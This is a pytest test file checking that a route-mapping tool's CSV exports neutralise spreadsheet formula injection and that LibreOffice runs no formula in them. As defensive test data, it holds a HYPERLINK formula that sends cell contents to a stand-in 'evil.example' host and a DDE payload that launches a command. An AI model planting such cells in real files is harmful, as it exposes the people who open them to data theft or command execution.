"""Formula-safe CSV: no text cell the project writes is run by a spreadsheet, and export -> build round-trips.

Expected cells are written by hand here (OWASP's rule: a text cell starting
with = + - @, a tab or a carriage return gets a leading apostrophe; numbers
stay numbers).  ``test_libreoffice_*`` opens the files in LibreOffice itself.
"""

from __future__ import annotations

import csv
import io
import os
import re
import shutil
import subprocess
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from geo.csvsafe import TRIGGERS, neutralise, neutralise_frame, restore

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
DDE = "+cmd|' /C calc'!A0"

#: (cell as the report had it, cell as a CSV writer must write it): by hand.
CASES = [
    (HYPERLINK, "'" + HYPERLINK),
    (DDE, "'" + DDE),
    ("-2+3", "'-2+3"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("@ACNUR", "'@ACNUR"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("  =1+1", "'  =1+1"),
    ("-", "'-"),
    ("'=1+1", "''=1+1"),  # a cell written with an apostrophe already keeps it on the way back
    ("''@x", "'''@x"),
    ("-92.25", "-92.25"),  # numbers stay numbers
    ("+5", "+5"),
    ("-1e-05", "-1e-05"),
    (" -7.5", " -7.5"),
    ("Tapachula", "Tapachula"),
    ("7,000-8,000", "7,000-8,000"),
    ("'quoted'", "'quoted'"),
    ("about 1,000", "about 1,000"),
    ("", ""),
    ("a=b", "a=b"),
]


@pytest.mark.parametrize(("cell", "written"), CASES)
def test_text_cells_at_risk_get_an_apostrophe_and_come_back(cell, written):
    assert neutralise(cell) == written
    assert restore(written) == cell


def test_values_that_are_not_text_are_left_alone():
    assert neutralise(-92.25) == -92.25 and neutralise(None) is None and neutralise(True) is True


@given(st.text())
def test_restore_undoes_neutralise_for_any_text(text):
    assert restore(neutralise(text)) == text


NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def starts_a_formula(cell: str) -> bool:
    """What a spreadsheet would run: = + - @ first (after blanks), or a tab or CR first; numbers excepted."""
    body = cell.strip(" \t\r\n")
    risky = cell[:1] in set(TRIGGERS) or body[:1] in set("=+-@")
    return risky and NUMBER.fullmatch(body) is None


@given(st.text(alphabet=st.sampled_from("'=+-@\t\r\n .0123456789eEx"), max_size=12))
def test_no_written_cell_starts_a_formula(text):
    written = neutralise(text)
    assert written in (text, "'" + text)
    assert not starts_a_formula(written), written


def test_frames_keep_numeric_columns_as_they_are():
    import pandas as pd

    frame = pd.DataFrame({"lon": [-92.25, -89.5], "note": ["=1+1", "fine"], "n": [-3, 4]})
    out = neutralise_frame(frame)
    assert out["lon"].tolist() == [-92.25, -89.5] and out["n"].tolist() == [-3, 4]
    assert out["note"].tolist() == ["'=1+1", "fine"]
    assert frame["note"].tolist() == ["=1+1", "fine"]  # the caller's frame is not changed


HOSTILE = (
    "caravan,date,place,country,lat,lon,kind,count,source,url,note\n"
    f'c1,2018-10-15,Tapachula,MX,14.9,-92.25,sighting,200,"{HYPERLINK.replace(chr(34), chr(34) * 2)}",'
    f'https://example.org/a,"{DDE}"\n'
    'c1,2018-10-17,@Huixtla,MX,15.14,-92.46,sighting,"1,000",-Wire,https://example.org/b,"\t=1+1"\n'
    "c1,2018-10-19,Escuintla,MX,15.32,-92.66,sighting,about 900,Wire,https://example.org/c,plain note\n"
)


def _cells(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def _assert_no_cell_starts_a_formula(rows: list[dict[str, str]]) -> None:
    for row in rows:
        for column, cell in row.items():
            assert not starts_a_formula(cell), (column, cell)


def test_export_csv_neutralises_text_and_keeps_numbers(write_csv, tmp_path, cli):
    source = write_csv(HOSTILE)
    out = tmp_path / "routes.csv"
    result = cli("export", str(source), "-o", str(out), "--layer", "reports")
    assert result.exit_code == 0, result.output
    rows = _cells(out.read_text(encoding="utf-8"))
    _assert_no_cell_starts_a_formula(rows)
    assert rows[0]["source"] == "'" + HYPERLINK and rows[0]["note"] == "'" + DDE
    assert rows[1]["place"] == "'@Huixtla" and rows[1]["source"] == "'-Wire" and rows[1]["note"] == "'=1+1"  # the reader strips the tab
    assert rows[0]["lon"] == "-92.25" and rows[1]["lon"] == "-92.46" and rows[2]["note"] == "plain note"
    assert rows[0]["geometry"] == "POINT (-92.25 14.9)"


def test_export_then_build_reads_the_original_text_back(write_csv, tmp_path, cli):
    from routes import read_reports
    from routes.schema import COLUMNS

    source = write_csv(HOSTILE)
    out = tmp_path / "routes.csv"
    assert cli("export", str(source), "-o", str(out), "--layer", "reports").exit_code == 0
    original, back = read_reports(source), read_reports(out)
    for column in COLUMNS:
        assert back[column].tolist() == original[column].tolist(), column
    assert back["note"].tolist() == [DDE, "=1+1", "plain note"]  # tab stripped on reading, as in the original
    page = tmp_path / "map.html"
    result = cli("build", str(out), "-o", str(page))
    assert result.exit_code == 0, result.output
    assert "'=HYPERLINK" not in page.read_text(encoding="utf-8")


def test_query_csv_is_formula_safe(write_csv, cli):
    result = cli("query", str(write_csv(HOSTILE)), "reports", "--format", "csv")
    assert result.exit_code == 0, result.output
    rows = _cells(result.stdout)
    _assert_no_cell_starts_a_formula(rows)
    assert [r["place"] for r in rows] == ["Tapachula", "'@Huixtla", "Escuintla"]
    assert [r["lon"] for r in rows] == ["-92.25", "-92.46", "-92.66"]


def test_geocode_csv_is_formula_safe(cli):
    result = cli("geocode", "--format", "csv", "--", "@Tapachula", "=Huixtla")
    assert result.exit_code == 0, result.output
    rows = _cells(result.stdout)
    _assert_no_cell_starts_a_formula(rows)
    assert [(r["query"], r["name"]) for r in rows] == [("'@Tapachula", "Tapachula"), ("'=Huixtla", "Huixtla")]
    assert float(rows[0]["lon"]) < 0 and rows[0]["lon"].startswith("-92.")


def test_extract_draft_is_formula_safe_and_builds(tmp_path, cli, monkeypatch):
    monkeypatch.chdir(tmp_path)
    Path("=cmd.txt").write_text('=HYPERLINK("http://evil.example/") About 2,000 migrants arrived in Tapachula '
                                "on October 15, 2018.\n", encoding="utf-8")
    result = cli("extract", "=cmd.txt", "--published", "2018-10-16", "--caravan", "c1", "-o", "draft.csv")
    assert result.exit_code == 0, result.output
    rows = _cells(Path("draft.csv").read_text(encoding="utf-8"))
    _assert_no_cell_starts_a_formula(rows)
    assert rows[0]["quote"].startswith("'=HYPERLINK(") and rows[0]["article"] == "'=cmd.txt"
    assert rows[0]["lon"].startswith("-92.")
    assert cli("build", "draft.csv", "-o", "map.html").exit_code == 0


# -- LibreOffice: open the files in a real spreadsheet program --------------------------------------------------

SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")
REQUIRE = os.environ.get("ROUTEMAPPER_REQUIRE_SPREADSHEET") == "1"
if REQUIRE and not SOFFICE:
    raise RuntimeError("ROUTEMAPPER_REQUIRE_SPREADSHEET=1 but LibreOffice is not installed "
                       "(apt-get install --no-install-recommends libreoffice-calc-nogui)")
needs_libreoffice = pytest.mark.skipif(not SOFFICE, reason="LibreOffice (soffice) is not installed")

#: CSV import options: comma, double quote, UTF-8, from line 1, ..., "evaluate formulas" on (what Excel does).
CSV_IMPORT = "CSV:44,34,76,1,,1033,false,false,false,false,false,-1,true"


def _open_in_libreoffice(csv_path: Path, workdir: Path) -> list[dict[str, str]]:
    """Convert ``csv_path`` to flat ODS with LibreOffice; return each cell's type, formula and text."""
    profile = workdir / "lo-profile"
    subprocess.run([SOFFICE, "--headless", "--norestore", f"-env:UserInstallation={profile.as_uri()}",
                    f"--infilter={CSV_IMPORT}", "--convert-to", "fods", "--outdir", str(workdir), str(csv_path)],
                   check=True, capture_output=True, timeout=180)
    import xml.etree.ElementTree as ET

    ns = {"table": "urn:oasis:names:tc:opendocument:xmlns:table:1.0",
          "office": "urn:oasis:names:tc:opendocument:xmlns:office:1.0",
          "text": "urn:oasis:names:tc:opendocument:xmlns:text:1.0"}
    tree = ET.parse(workdir / (csv_path.stem + ".fods"))
    cells = []
    for cell in tree.iter(f"{{{ns['table']}}}table-cell"):
        text = "\n".join("".join(p.itertext()) for p in cell.findall("text:p", ns))
        if not text and not cell.attrib:
            continue
        cells.append({"type": cell.get(f"{{{ns['office']}}}value-type", ""),
                      "formula": cell.get(f"{{{ns['table']}}}formula", ""),
                      "value": cell.get(f"{{{ns['office']}}}value", ""), "text": text})
    return cells


@needs_libreoffice
def test_libreoffice_runs_a_raw_formula_cell(tmp_path):
    """The control: the same check does see a formula in a file written without neutralising."""
    raw = tmp_path / "raw.csv"
    raw.write_text(f'note,lon\n"{HYPERLINK.replace(chr(34), chr(34) * 2)}",-92.25\n', encoding="utf-8")
    cells = _open_in_libreoffice(raw, tmp_path)
    assert any(c["formula"].startswith("of:=HYPERLINK") for c in cells), cells


@needs_libreoffice
def test_libreoffice_reads_no_formula_in_an_export(write_csv, tmp_path, cli):
    out = tmp_path / "routes.csv"
    assert cli("export", str(write_csv(HOSTILE)), "-o", str(out), "--layer", "reports").exit_code == 0
    cells = _open_in_libreoffice(out, tmp_path)
    assert [c for c in cells if c["formula"]] == []
    texts = {c["text"] for c in cells if c["type"] == "string"}
    assert "'" + HYPERLINK in texts and "'" + DDE in texts
    floats = {c["value"] for c in cells if c["type"] == "float"}
    assert {"-92.25", "-92.46", "14.9"} <= floats  # lat/lon stay numbers


def test_read_reports_restores_an_apostrophe_escape_and_keeps_any_other_apostrophe(write_csv):
    from routes import read_reports

    table = read_reports(write_csv(
        "caravan,date,place,country,lat,lon,note\n"
        "'@c1,2018-10-13,'=Tapachula,MX,14.9,-92.25,''=1+1\n"
        "'c2,2018-10-14,'Huixtla,MX,15.14,-92.46,'-92.46\n"))
    # an apostrophe before formula text is our writers' escape: taken off once
    assert table["caravan"].tolist() == ["@c1", "'c2"]
    assert table["place"].tolist() == ["=Tapachula", "'Huixtla"]
    # a doubled one leaves the user's own apostrophe; before a number it is no escape (a number is no formula)
    assert table["note"].tolist() == ["'=1+1", "'-92.46"]
